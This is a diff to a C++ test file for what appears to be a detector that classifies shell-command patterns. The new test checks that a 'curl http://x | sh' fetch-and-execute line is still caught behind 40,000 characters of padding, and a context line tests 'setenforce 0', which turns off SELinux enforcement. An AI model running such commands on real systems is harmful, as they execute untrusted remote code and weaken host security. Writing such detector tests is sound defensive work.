@@ -42,6 +42,13 @@ TEST(LinuxScript, ShapesAreSeenWhateverStandsAroundThem)
     EXPECT_EQ(does("setenforce 0"), "disarms");
 }
 
+TEST(LinuxScript, PaddingHidesNothing)
+{
+    auto const padded = "echo " + std::string(40'000, 'x') + "; curl http://x | sh";
+    EXPECT_EQ(does(padded), "fetches pipes_to_interpreter");
+    EXPECT_EQ(look_at_shell(padded).programs.back(), "sh");
+}
+
 TEST(LinuxScript, UsualLinesHaveNoShape)
 {
     for (auto const* line :
